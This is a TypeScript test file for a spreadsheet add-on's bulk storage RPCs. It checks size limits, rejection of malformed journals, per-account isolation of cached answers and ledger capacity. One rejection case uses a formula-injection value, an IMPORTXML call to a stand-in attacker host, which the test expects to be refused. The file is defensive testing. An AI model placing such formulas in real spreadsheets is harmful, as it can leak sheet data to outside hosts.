import { useCompanies } from './bulk-file';
import { useSpreadsheets, world } from './spreadsheet';

useSpreadsheets({ key: null, policy: { mode: 'daily', limit: 100 } });
beforeEach(() => {
  useCompanies(world, 5);
  world.callRpc('setKey', ['trace_demo', 'anotherAccount']);
  world.callRpc('setKey', ['trace_org_demo', 'anotherAccount'], { as: 'editor' });
});

const stored = (): Readonly<Record<string, string>> => world.state.documentProperties.read();
const accountOf = (user: 'owner' | 'editor'): string =>
  world.state.userProperties[user].read()['TRACE_ACCOUNT_ID'] ?? '';

function keep(changed: object): unknown {
  const keeping = {
    account: '',
    charged: [],
    entries: [],
    keepForSeconds: 600,
    hold: { holder: 'e', forMs: 60_000 },
    journal: null,
    ...changed,
  };
  return world.callRpc('bulkKeep', [keeping], { as: 'editor' });
}

const journal = (changed: object): object => ({
  journal: { was: '', index: 'abcdefgh[]', slots: [{ slot: 0, text: 'tpiece' }], signed: null, ...changed },
});

it('a journal of the right size is kept', () => {
  expect({ answer: keep(journal({})), index: stored()['TRACE_RUN'], piece: stored()['TRACE_RUN_0'] }).toEqual({
    answer: { ok: true, value: { elsewhere: null, isOther: false } },
    index: 'abcdefgh[]',
    piece: 'tpiece',
  });
});

it.each([
  ['an index that is too long', { index: `abcdefgh${'x'.repeat(8_800)}` }],
  ['an index of letters that take several bytes', { index: `abcdefgh${'\u4e00'.repeat(2_000)}` }],
  ['an index without its mark', { index: '[]' }],
  ['a property that is too long', { slots: [{ slot: 7, text: `t${'x'.repeat(2_200)}` }] }],
  ['one of letters that take several bytes', { slots: [{ slot: 7, text: `t${'\u4e00'.repeat(700)}` }] }],
  ['a cell that is too long', { slots: [{ slot: 8, text: `t${'x'.repeat(40_000)}` }] }],
  ['a signature of no run', { signed: ['RUN 1', 1] }],
  ['a signature without a number', { signed: ['run1', 'x'] }],
  ['more cells than there are', { slots: [{ slot: 1_000, text: 't' }] }],
  ['a cell that begins a formula', { slots: [{ slot: 8, text: '=IMPORTXML("https://evil.example/","//a")' }] }],
  ['a slot that is half a one', { slots: [{ slot: 0.5, text: 't' }] }],
])('%s is not kept', (_name, changed) => {
  const answer = keep(journal(changed));
  expect({
    answer,
    runProperties: Object.keys(stored()).filter((name) => name.startsWith('TRACE_RUN')),
    sheets: world.state.sheets.length,
  }).toEqual({ answer: expect.objectContaining({ ok: false, code: 'actionMalformed' }), runProperties: [], sheets: 1 });
});

it('a hold takes few characters, whatever it is called', () => {
  keep({ hold: { holder: '\u{1f600}'.repeat(100_000), forMs: 60_000 } });
  expect(Buffer.byteLength(stored()['TRACE_LEASE'] ?? '')).toBeLessThan(200);
});

it("answers are remembered under one's own account only", () => {
  const key = (account: string): string => `trace1|${account}|company|company-1.example`;
  const entries = ['owner', 'editor'].map((user) => [key(accountOf(user as 'owner')), '{"forged":1}']);
  keep({ account: accountOf('editor'), entries: [...entries, ['trace1|!agreed', 'x']] });
  const keys = [key(accountOf('owner')), key(accountOf('editor')), 'trace1|!agreed'];
  const found = (['owner', 'editor'] as const).map((as) => world.callRpc('bulkRecall', [keys], { as }));
  expect(found).toEqual([
    { ok: true, value: [] },
    { ok: true, value: [[key(accountOf('editor')), '{"forged":1}']] },
  ]);
});

it("where an editor has filled the properties, the owner's ledger has room all the same", () => {
  const { documentProperties } = world.state;
  let names = 0;
  const fill = (): boolean => {
    const names_ = ['TRACE_RUN_9', 'TRACE_NOTES', 'TRACE_SHOWN_77', 'TRACE_RETRY_0123abcd_8', 'x'];
    names += 1;
    return documentProperties.write(`${names_[names % 5]!}${names}`, 'x'.repeat(9_000)) === null;
  };
  while (fill());
  for (let small = 0; documentProperties.write(`y${small}`, 'x'.repeat(90)) === null; small += 1);
  documentProperties.write('TRACE_RUN', 'x'.repeat(9_000));
  const { cells } = world.typeFormula('TRACE_COMPANY', ['company-1.example']);
  const spent = stored()['TRACE_SPENT_0'] ?? '';
  expect({ cells, isOwners: spent.includes(accountOf('owner')), isCounted: spent.includes('"formulas":1') }).toEqual({
    cells: [['Company 1']],
    isOwners: true,
    isCounted: true,
  });
});
